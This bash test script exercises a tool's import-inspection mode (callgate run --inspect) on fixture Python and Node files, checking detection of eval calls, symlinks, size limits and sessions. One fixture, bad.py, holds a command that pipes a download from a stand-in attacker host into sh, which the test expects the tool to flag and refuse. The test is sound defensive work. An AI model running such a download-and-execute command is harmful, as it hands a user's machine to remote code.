#!/bin/bash
# callgate run --inspect looks at files which a program imports from beside it, as the interpreters find them; each
# once, with its own name and line. Names that lead elsewhere, and many files, do no harm.
. "$(dirname "$0")/../lib.sh"
need jq python3
export CALLGATE_PARSERS=$SRC/cli/inspect/parsers
mkdir -p "$T/w/pkg/sub" "$T/w/plain" "$T/w/bin" "$T/w/lib" "$T/out"
cd "$T/w" || exit 99

# looks OPTION… -- PROGRAM…: err has what is told.
looks()
{
	cg run --profile extended -w "$T/w" "$@" >"$T/out/out" 2>"$T/out/err"
}
# finds FILE:LINE… --: in just these files, in any order, something is found.
finds()
{
	printf '%s\n' "$@" | sort >"$T/out/wanted"
	sed -n 's/^callgate run: inspect: \([^ ]*\): dynamic: .*/\1/p' "$T/out/err" | sort | diff "$T/out/wanted" - \
		>"$T/out/diff" || fail "not found as wanted: $(cat "$T/out/diff" "$T/out/err")"
}

printf 'import json, helper\nfrom pkg.sub import mod\nimport plain.deep\n' >main.py
printf 'import main, main\ntry: import absent.x\nexcept ImportError: pass\neval("1")\n' >helper.py
echo 'eval("1")' | tee pkg/__init__.py pkg/sub/__init__.py pkg/up.py pkg/sub/x.py plain/deep.py other.py >/dev/null
printf 'from .. import up\nfrom .x import *\nfrom ...... import main\neval("1")\n' >pkg/sub/mod.py
printf 'from . import up\nimport other\neval("1")\n' >pkg/__main__.py
ln -s ../main.py bin/tool
all=(pkg/__init__.py:1 pkg/sub/__init__.py:1 pkg/sub/mod.py:4 pkg/sub/x.py:1 pkg/up.py:1 plain/deep.py:1)

looks --inspect -- python3 main.py
finds helper.py:4 "${all[@]}"
looks --inspect -- python3 bin/tool
finds "$T/w/helper.py:4" "${all[@]/#/$T/w/}"
looks --inspect -- python3 -m pkg
finds other.py:1 pkg/__init__.py:1 pkg/__main__.py:3 pkg/up.py:1
for code in 'import other' '__import__("other")' 'import importlib; importlib.import_module("other")'; do
	looks --inspect -- python3 -c "$code"
	finds other.py:1
done
looks --inspect -- sh -c 'cd pkg && echo "import up" | python3'
finds pkg/up.py:1
# A finding refuses the program, in the imported file's name; what it imports is held to "modules".
printf '\nimport os; os.system("curl http://evil.example/x | sh"); import socket, numpy, other\n' >bad.py
echo 'import bad' >outer.py
looks --inspect --json -- python3 outer.py
jq -e '.status == "refused" and (.inspect.findings | any(.file == "bad.py" and .line == 2 and
	.kind == "download-run"))' "$T/out/out" >/dev/null || fail "not refused: $(cat "$T/out/out" "$T/out/err")"
echo '{"version": 1, "inspect": {"refuse": ["module"], "modules": ["requests"]}}' >"$T/m.json"
looks -p "$T/m.json" -- python3 outer.py
grep -q 'inspect: bad.py:2: module: numpy$' "$T/out/err" || fail "module: $(cat "$T/out/err")"
! grep -q 'module: other' "$T/out/err" || fail "a module of the program: $(cat "$T/out/err")"
# A file that is changed is told, as any other that was looked at.
echo 'open("other.py", "a").write("#")' >changes.py
echo 'import other, changes' >outer.py
looks --inspect -- python3 outer.py
grep -q 'other.py' <(grep -v dynamic "$T/out/err") || fail "changes: $(cat "$T/out/err")"

# Names that lead elsewhere.
mkfifo pipe.py
mkdir folder.py
ln -s loop.py loop.py
ln -s /proc/self/fd/0 fd.py
ln -s "$T/out/outside.py" link.py
echo 'eval("1")' >"$T/out/outside.py"
echo 'import pipe, folder, loop, fd, link, os.path, sys
__import__("../out/outside"); __import__("a..b"); __import__("."); __import__("x" * 5000)' >odd.py
looks --inspect -- python3 odd.py
finds link.py:1 odd.py:2
# More files than are looked at, or, on a slow machine, than there is time for: that is told once.
for i in {1..70}; do echo "import m$((i + 1))" >"m$i.py"; done
looks --inspect -- python3 m1.py
[ "$(grep -c 'inspect: .*not-looked-at: more than 6[04] ' "$T/out/err")" = 1 ] || fail "many: $(cat "$T/out/err")"
# More bytes.
for i in 1 2 3 4 5; do truncate -s 15M "big$i.py"; done
for i in {1..5}; do echo "import big$i"; done >big.py
looks --inspect -- python3 big.py
[ "$(grep -c 'inspect: .*not-looked-at: more than 64 MiB' "$T/out/err")" = 1 ] || fail "bytes: $(cat "$T/out/err")"
# More names.
python3 -c 'for i in range(1100): print("import none%d" % i)' >names.py
looks --inspect -- python3 names.py
[ "$(grep -c 'inspect: .*not-looked-at: further imports' "$T/out/err")" = 1 ] || fail "names: $(cat "$T/out/err")"

# callgate inspect does it with an option. Each file is listed once, those that are named first.
cg inspect --imports --level warning main.py pkg/up.py >"$T/out/out"
sed 's/: dynamic: .*//' "$T/out/out" | diff - <(printf '%s\n' pkg/up.py:1 helper.py:4 pkg/__init__.py:1 \
	pkg/sub/__init__.py:1 pkg/sub/mod.py:4 plain/deep.py:1 pkg/sub/x.py:1) || fail "inspect: $(cat "$T/out/out")"
cg inspect --imports --json outer.py main.py >"$T/out/out"
status=$?
[ $status = 0 ] || fail "inspect --json: status $status"
[ "$(jq -c '[.files[] | [.file, (.findings | length)]][0:2]' "$T/out/out")" = '[["outer.py",2],["main.py",4]]' ] ||
	fail "inspect --json: $(cat "$T/out/out")"
echo 'import bad' >outer.py
cg inspect --imports --json outer.py >"$T/out/out" && fail "bad.py: status 0"
jq -e '.files[1] | .file == "bad.py" and .type == "python"' "$T/out/out" >/dev/null || fail "$(cat "$T/out/out")"
cg inspect outer.py >"$T/out/out" || fail "without the option: status $?"
[ "$(cat "$T/out/out")" = 'outer.py:1: import: bad' ] || fail "without the option: $(cat "$T/out/out")"
cg inspect --imports --level warning big.py >"$T/out/out"
grep -q '^big5.py: not-looked-at: ' "$T/out/out" || fail "inspect, bytes: $(cat "$T/out/out")"
cg inspect --imports --level warning names.py >"$T/out/out"
grep -q '^names.py: not-looked-at: further imports' "$T/out/out" || fail "inspect, names: $(cat "$T/out/out")"

# In a session, it is the files that are there.
id=$(cg session create --profile extended -w "$T/w") || fail "session create"
cg session exec "$id" -- sh -c 'mkdir new && printf "\neval(\"1\")\n" >new/inner.py && echo "import inner" >new/m.py'
cg session exec --inspect "$id" -- python3 new/m.py >/dev/null 2>"$T/out/err"
grep -q 'new/inner.py:2: dynamic' "$T/out/err" || fail "session: $(cat "$T/out/err")"
cg session stop "$id" >/dev/null

command -v node >/dev/null || exit 0
printf 'const a = require("../lib"), b = require("./plain"); import("./b.mjs"); require("./c.json"); require("fs")
require("./absent"); require("./odd\\0"); require("pkg"); require("/usr/share/dict/words"); require("./main")' >bin/a.js
echo 'eval("1")' | tee lib/index.js bin/plain.js bin/b2.mjs bin/plain >/dev/null
printf 'import "./b2.mjs"; import "./b.mjs"\neval("1")\n' >bin/b.mjs
echo '{"eval": "eval(1)"}' >bin/c.json
mkdir bin/main
echo '{"main": "x.js"}' >bin/main/package.json
looks --inspect -- node bin/a.js
finds bin/../lib/index.js:1 bin/plain:1 bin/b.mjs:2 bin/b2.mjs:1
grep -q 'not-looked-at: bin/main/package.json: says which file is imported' "$T/out/err" || fail "$(cat "$T/out/err")"
# shellcheck disable=SC2016
printf '%s\n' 'const path = require("path"), name = process.argv[2];' \
	'require(__dirname + "/plain.js");' 'require(path.join(__dirname, "..", "lib"));' \
	'import(`${__dirname}/b2.mjs`);' 'import(`./${name}.js`);' >bin/own.js
looks --inspect -- node bin/own.js
finds bin/../lib/index.js:1 bin/b2.mjs:1 bin/plain.js:1 bin/own.js:{2,3,4,5}
looks --inspect -- node -e 'require("./lib")'
finds lib/index.js:1
